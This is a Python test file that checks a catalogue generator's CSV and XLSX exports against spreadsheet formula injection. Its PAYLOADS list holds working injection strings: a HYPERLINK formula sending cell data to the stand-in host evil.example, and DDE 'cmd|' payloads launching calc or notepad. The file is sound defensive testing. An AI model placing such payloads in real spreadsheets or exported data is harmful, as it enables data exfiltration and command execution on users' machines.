"""Formula injection: no table the project writes makes a spreadsheet run an editor's text.

Every text field that reaches a table (titles, 文号, issuers, summaries, power names, subjects,
departments, law titles …) is set to a formula payload; then the audit (CSV, XLSX), the site's
data/*.csv and export-xlsx are read back with csv and openpyxl: no CSV cell begins with a formula
character, no XLSX cell is a formula, every payload is still there character for character, and
numbers are still numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from generator.audit.audit import run_audit
from generator.audit.render import render_csv
from generator.audit.workbook import render_xlsx
from generator.cli import main
from generator.editing.xlsx.importer import plan_import
from generator.load import load_project
from generator.site.exports import export_tables, table_csv
from generator.spreadsheet.write import FORMULA_LEAD, csv_text, put, workbook_bytes
from tests.audit_fixture import make_fixture
from tests.minimal import TODAY

# What an attacker (or a careless paste from Excel) puts in a cell: each makes Excel/WPS evaluate it.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
TEXT_FIELDS = ("title", "doc_no", "name", "issuer", "summary", "subject", "department")


def test_csv_cells_beginning_with_a_formula_character_get_an_apostrophe() -> None:
    text = csv_text(["名称", "数"], [[p, i] for i, p in enumerate(PAYLOADS)] + [["普通文字", -5], ["-", 2.5]])
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:len(PAYLOADS) + 1]] == ["'" + p for p in PAYLOADS]
    assert rows[-2:] == [["普通文字", "-5"], ["'-", "2.5"]]   # numbers stay numbers, text is text


def test_xlsx_text_cells_are_never_formulas(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, p in enumerate(PAYLOADS, 1):
        put(ws, i, 1, p)
        put(ws, i, 2, -i)
    data = workbook_bytes(wb, dt.datetime(2026, 11, 26))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    back = openpyxl.load_workbook(io.BytesIO(data)).active
    # XML stores a bare CR as a line break (the catalogue never holds one: YAML normalises it too).
    assert [(c.value, c.data_type, c.quotePrefix) for c in back["A"]] == \
        [(p.replace("\r", "\n"), "s", True) for p in PAYLOADS]
    assert [(c.value, c.data_type) for c in back["B"]] == [(-i, "n") for i in range(1, len(PAYLOADS) + 1)]


def poisoned_project(root: Path) -> tuple[Path, set[str]]:
    """The audit fixture with every text field of every record replaced by a formula payload."""
    make_fixture(root)
    used: set[str] = set()
    line = re.compile(rf"^(\s*(?:- )?)({'|'.join(TEXT_FIELDS)}): (.+)$", re.M)
    n = 0

    def poison(m: re.Match[str]) -> str:
        nonlocal n
        n += 1
        value = PAYLOADS[n % 3 * 2 + (n % 2)][:40].replace("'", "") + m[3][:20] + str(n)
        value = value.replace("\t", "").replace("\r", "")   # YAML keeps these; the unit tests cover them
        used.add(value)
        return f"{m[1]}{m[2]}: '{value}'"

    for path in sorted((root / "catalog").rglob("*")):
        if path.suffix in (".yml", ".md"):
            path.write_text(line.sub(poison, path.read_text(encoding="utf-8")), encoding="utf-8")
    assert len(used) > 20 and all(v.startswith(FORMULA_LEAD) for v in used)
    return root, used


@pytest.fixture
def poisoned(tmp_path: Path) -> tuple[Path, set[str]]:
    return poisoned_project(tmp_path / "p")


def assert_csv_safe(text: str, payloads: set[str], least: int) -> None:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_LEAD)] == []
    found = {c[1:] for c in cells if c.startswith("'")} & payloads
    assert len(found) >= least, sorted(found)


def test_audit_csv_neutralises_every_field(poisoned: tuple[Path, set[str]]) -> None:
    root, payloads = poisoned
    cat, _ = load_project(root)
    assert_csv_safe(render_csv(run_audit(cat, TODAY)), payloads, least=8)


def test_audit_cli_csv_file(poisoned: tuple[Path, set[str]], tmp_path: Path) -> None:
    root, payloads = poisoned
    out = tmp_path / "audit.csv"
    assert main(["audit", "--project", str(root), "--as-of", TODAY.isoformat(), "--format", "csv",
                 "--out", str(out)]) == 0
    assert_csv_safe(out.read_text(encoding="utf-8-sig"), payloads, least=8)


def assert_xlsx_safe(data: bytes, payloads: set[str], least: int, numbers: bool = False) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    exact = [c for c in cells if c.value in payloads]
    assert len({c.value for c in exact}) >= least
    assert all(c.data_type == "s" for c in exact)
    assert any(c.data_type == "n" for c in cells) or not numbers   # counts are numbers, not text


def test_audit_xlsx_has_no_formula_cell(poisoned: tuple[Path, set[str]]) -> None:
    root, payloads = poisoned
    cat, _ = load_project(root)
    assert_xlsx_safe(render_xlsx(run_audit(cat, TODAY)), payloads, least=8, numbers=True)


def test_site_data_csv_exports_neutralise_every_field(poisoned: tuple[Path, set[str]]) -> None:
    root, payloads = poisoned
    cat, _ = load_project(root)
    texts = {name: table_csv(t.rows, t.columns).decode("utf-8-sig") for name, t in export_tables(cat).items()}
    assert_csv_safe("".join(texts.values()), payloads, least=20)
    laws = list(csv.DictReader(io.StringIO(texts["laws"])))
    assert all(r["引用的权力事项数"].isdigit() for r in laws)


def test_export_xlsx_keeps_payloads_as_text_and_round_trips(poisoned: tuple[Path, set[str]],
                                                            tmp_path: Path) -> None:
    root, payloads = poisoned
    book = tmp_path / "清单.xlsx"
    assert main(["export-xlsx", "--project", str(root), "--today", TODAY.isoformat(), "--out", str(book)]) == 0
    assert_xlsx_safe(book.read_bytes(), payloads, least=20)
    assert plan_import(root, book).writes == {}
    resaved = tmp_path / "resaved.xlsx"
    openpyxl.load_workbook(book).save(resaved)   # what opening and saving in a spreadsheet does
    assert_xlsx_safe(resaved.read_bytes(), payloads, least=20)
    assert plan_import(root, resaved).writes == {}
